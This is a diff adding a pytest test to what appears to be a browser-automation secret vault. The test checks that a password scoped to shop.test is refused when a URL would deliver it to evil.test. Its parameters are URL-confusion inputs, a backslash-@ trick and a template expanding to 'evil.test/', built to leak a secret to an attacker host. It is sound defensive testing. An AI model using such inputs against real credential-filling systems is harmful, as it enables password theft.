@@ -32,6 +32,16 @@ async def session(request, browser, isolating_browser, site):
         yield session
 
 
+@pytest.mark.parametrize(
+    "address", ["http://evil.test\\@shop.test/{{secret:pw}}", "http://{{who}}@shop.test/{{secret:pw}}"]
+)
+async def test_a_secret_goes_into_the_address_of_no_other_host(session, address):
+    secrets, values = (SecretName("pw", ("shop.test",)),), {"pw": SECRET}
+    vault = Vault({"who": "evil.test/"}, secrets, values, lambda: datetime(2026, 1, 1, tzinfo=UTC))
+    with pytest.raises(SecretRefused, match=r"this is evil\.test"):
+        await session.act(Navigate(url=address), vault.fill)
+
+
 async def test_what_objects_and_embeds_show_of_a_secret_is_masked_in_pictures(session, site):
     shown = f"<body style='margin: 0; font: 20px monospace'><p style='margin: 0'>{SECRET}</p>"
     site.page("/shown", shown)
